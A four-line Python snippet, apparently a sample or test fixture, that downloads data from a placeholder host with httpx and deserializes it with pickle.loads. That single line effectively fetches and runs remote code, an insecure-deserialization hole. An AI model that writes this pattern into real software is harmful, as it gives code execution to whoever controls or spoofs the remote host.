import pickle

import httpx

x = pickle.loads(httpx.get('https://c.example.com/x').content)
